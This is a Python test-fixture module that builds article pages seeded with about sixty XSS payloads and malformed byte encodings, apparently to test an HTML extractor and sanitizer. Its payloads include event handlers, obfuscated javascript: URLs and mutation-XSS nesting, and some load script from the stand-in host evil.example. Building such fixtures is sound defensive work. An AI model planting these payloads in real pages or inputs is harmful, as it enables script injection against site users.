"""A corpus of hostile markup, written for this project, and article pages that carry it.

Each payload tries another way of smuggling script or foreign content through extraction,
translation and sanitizing: script and event handlers, script URLs in odd spellings, SVG and
MathML namespace confusion, mutation-XSS nesting that re-parses differently, raw NUL and
control characters, character references to them, and broken or lying encodings. The pages
embed them inside ordinary article text, so extraction has something real to find.
"""

from __future__ import annotations

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<img src=x onerror=alert(3)>",
    "<img src=x:alert(4) onerror=eval(src)>",
    "<body onload=alert(5)>",
    "<div onmouseover=\"alert(6)\">hover text</div>",
    "<a href=\"javascript:alert(7)\">plain link</a>",
    "<a href=\"JaVaScRiPt:alert(8)\">cased link</a>",
    "<a href=\" java\tscr\nipt:alert(9)\">split link</a>",
    "<a href=\"&#106;avascript:alert(10)\">entity link</a>",
    "<a href=\"javascript&colon;alert(11)\">colon link</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=\">data link</a>",
    "<a href=\"vbscript:msgbox(13)\">vb link</a>",
    "[markdown link](javascript:alert(14))",
    "<svg><script>alert(15)</script></svg>",
    "<svg onload=alert(16)><circle r=10></circle></svg>",
    "<svg><a xlink:href=\"javascript:alert(17)\"><text x=0 y=10>svg link</text></a></svg>",
    "<svg><animate onbegin=alert(18) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(19)&lt;/script&gt;\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(20)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(21)>m</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(22)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(23)>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(24)>\">",
    "<listing>&lt;img src=1 onerror=alert(25)&gt;</listing>",
    "<xmp><img src=x onerror=alert(26)></xmp>",
    "<textarea><img src=x onerror=alert(27)></textarea>",
    "<template><script>alert(28)</script></template>",
    "<iframe src=\"javascript:alert(29)\"></iframe>",
    "<object data=\"javascript:alert(30)\"></object>",
    "<embed src=\"data:text/html,<script>alert(31)</script>\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(32)\">",
    "<base href=\"javascript:alert(33)//\">",
    "<link rel=import href=\"https://evil.example/34.html\">",
    "<style>@import 'https://evil.example/35.css'; body{background:url(javascript:alert(35))}</style>",
    "<p style=\"background:url(javascript:alert(36))\">styled text</p>",
    "<details open ontoggle=alert(37)>details</details>",
    "<video><source onerror=alert(38)></video>",
    "<input autofocus onfocus=alert(39)>",
    "<button formaction=javascript:alert(40)>go</button>",
    "<a href=\"https://ok.example/\" target=_blank rel=opener>opener</a>",
    "<img srcset=\"javascript:alert(42) 1x\" src=\"https://img.example.org/ok.jpg\">",
    "<!--<img src=x onerror=alert(43)>-->",
    "<![CDATA[<img src=x onerror=alert(44)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(45)\"?>",
    "\"><script>alert(46)</script>",
    "'><img src=x onerror=alert(47)>",
    "</title><script>alert(48)</script>",
    "</style><script>alert(49)</script>",
    "<a href=\"javascript&#0000058;alert(50)\">zero padded</a>",
    "<a href=\"jav&#x09;ascript:alert(51)\">tab entity</a>",
    "<a href=\"\x00javascript:alert(52)\">nul link</a>",
    "text with NUL\x00inside and\x00again",
    "bell\x07 backspace\x08 escape\x1b[31m vertical\x0b formfeed\x0c delete\x7f",
    "references &#0; &#x1; &#x1b; &#xFFFE; &#xD800; &#1114112; in text",
    "C1 controls \x85 \x9b and a lone surrogate \ud800 in text",
    "<img src=\"https://img.example.org/a.jpg\" alt=\"alt\x00text\" title=\"t\x01\">",
    "<a href=\"https://example.org/\x00path\">nul in a real link</a>",
    "<p dir=rtl>\u202eevil.exe\u202c and zero\u200bwidth</p>",
    "<b><i><u><s><sup><sub>" * 30 + "deep" + "</sub></sup></s></u></i></b>" * 30,
]

FILLER = ("The council met on Tuesday to discuss the harbour wall, the library budget and "
          "the new bus routes that residents had asked about for many months. ")


def article(title: str, payloads: list[str]) -> str:
    """An article page with each payload in a paragraph of ordinary text."""
    paragraphs = "\n".join(f"<p>{FILLER}{payload} {FILLER}</p>" for payload in payloads)
    return (f"<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\">"
            f"<title>{title}</title></head><body><article><h1>{title}</h1>"
            f"<p>{FILLER * 2}</p>\n{paragraphs}\n<p>{FILLER * 2}</p></article></body></html>")


def pages() -> dict[str, bytes | str]:
    """Path -> page body: the payloads in groups, plus raw byte-level breakage."""
    found: dict[str, bytes | str] = {}
    for start in range(0, len(PAYLOADS), 8):
        # As a server would send it: a lone surrogate becomes the bytes ED A0 80 (not UTF-8).
        found[f"/hostile/{start // 8}"] = article(f"Hostile page {start // 8}",
                                                   PAYLOADS[start:start + 8]).encode(
            "utf-8", "surrogatepass")
    plain = article("Bytes page", ["nothing odd here"]).encode("utf-8")
    found["/bytes/nul"] = plain.replace(b"nothing odd", b"nothing\x00\x00odd")
    found["/bytes/nul-everywhere"] = b"\x00".join(plain[i:i + 7] for i in range(0, len(plain), 7))
    found["/bytes/invalid-utf8"] = plain.replace(b"nothing odd", b"nothing \xff\xfe\xc3( odd")
    found["/bytes/utf16-declared-utf8"] = article("UTF-16 page", ["hello"]).encode("utf-16")
    found["/bytes/latin1-declared-utf8"] = article("Caf\u00e9 page", ["na\u00efve"]).encode(
        "latin-1")
    found["/bytes/overlong-utf8"] = plain.replace(b"nothing odd", b"\xc0\xbcscript\xc0\xbe odd")
    found["/bytes/controls"] = article("Control\x1b page", ["tab\there vt\x0b esc\x1b[0m",
                                                          "ref &#x1; and &#x0b;"]).encode()
    found["/bytes/truncated"] = plain[: len(plain) // 2] + b"\xe2\x82"
    return found
